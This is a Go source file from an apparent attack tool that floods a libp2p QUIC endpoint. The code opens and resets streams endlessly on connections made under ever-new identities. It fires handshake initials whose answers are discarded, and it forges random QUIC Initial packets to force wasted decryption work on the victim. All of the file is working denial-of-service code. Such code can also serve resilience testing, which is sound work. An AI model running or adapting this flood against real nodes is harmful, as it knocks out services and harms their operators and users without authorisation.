//go:build linux

package main

import (
	"context"
	"crypto/rand"
	"fmt"
	"net"
	"runtime"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/transport"
	quic "github.com/libp2p/go-libp2p/p2p/transport/quic"
	"github.com/libp2p/go-libp2p/p2p/transport/quicreuse"
	ma "github.com/multiformats/go-multiaddr"
)

// The attacker over QUIC.

// newManager makes QUIC sockets at the attacker's address. With deaf they never
// see an answer.
func (a *attacker) newManager(deaf bool) *quicreuse.ConnManager {
	listen := func(network string, _ *net.UDPAddr) (net.PacketConn, error) {
		c, err := net.ListenUDP(network, &net.UDPAddr{IP: a.from})
		if deaf && err == nil {
			return deafConn{c}, nil
		}
		return c, err
	}
	manager, err := quicreuse.NewConnManager([32]byte{}, [32]byte{}, quicreuse.OverrideListenUDP(listen))
	orExit(err)
	return manager
}

func newQUIC(key crypto.PrivKey, by *quicreuse.ConnManager) transport.Transport {
	t, err := quic.NewTransport(key, by, nil, nil, nil)
	orExit(err)
	return t
}

func (a *attacker) quicAddr() ma.Multiaddr {
	return ma.StringCast(fmt.Sprintf("/ip4/%s/udp/%d/quic-v1", a.udp.IP, a.udp.Port))
}

// floodQUIC opens streams with those first bytes, on connections of ever new
// identities.
func (a *attacker) floodQUIC(firsts [][]byte) {
	manager := a.newManager(false)
	inParallel(quicDialers, func() {
		a.try()
		ctx, cancel := context.WithTimeout(context.Background(), quicLimit)
		c, err := newQUIC(newKey(), manager).Dial(ctx, a.quicAddr(), a.victim)
		cancel()
		if err != nil {
			return
		}
		defer c.Close()
		ctx, cancel = context.WithTimeout(context.Background(), shakeLimit)
		defer cancel()
		for i := 0; ; i++ {
			s, err := c.OpenStream(ctx)
			if err != nil {
				return
			}
			a.opened(1)
			_, _ = s.Write(firsts[i%len(firsts)])
			_ = s.Reset()
		}
	})
}

// deafConn sends and reads nothing.
type deafConn struct{ net.PacketConn }

func (c deafConn) ReadFrom(b []byte) (int, net.Addr, error) {
	for {
		if _, _, err := c.PacketConn.ReadFrom(b); err != nil {
			return 0, nil, err
		}
	}
}

// forgers is how many send first packets at once: nothing keeps them waiting.
const forgers = 8

// initials sends the first packets of handshakes over QUIC: real ones, whose
// answers nobody reads, and forged ones.
func (a *attacker) initials() {
	go inParallel(forgers, a.forgeInitials)
	t := newQUIC(a.key, a.newManager(true))
	inParallel(forgers, func() {
		a.try()
		ctx, cancel := context.WithTimeout(context.Background(), time.Millisecond)
		defer cancel()
		_, _ = t.Dial(ctx, a.quicAddr(), a.victim)
	})
}

// forgeInitials sends packets that look like the first of a handshake until
// they are decrypted (RFC 9000, 17.2.2).
func (a *attacker) forgeInitials() {
	c, err := net.DialUDP("udp", &net.UDPAddr{IP: a.from}, &net.UDPAddr{IP: a.udp.IP, Port: a.udp.Port})
	if err != nil {
		return
	}
	defer c.Close()
	packet := make([]byte, 1200)
	for range 64 {
		_, _ = rand.Read(packet)
		copy(packet, []byte{0xc3, 0, 0, 0, 1, 8})
		copy(packet[14:], []byte{0, 0, 0x44, 0x9e}) // no source ID, no token, the rest is payload
		a.try()
		if _, err := c.Write(packet); err != nil {
			runtime.Gosched()
		}
	}
}
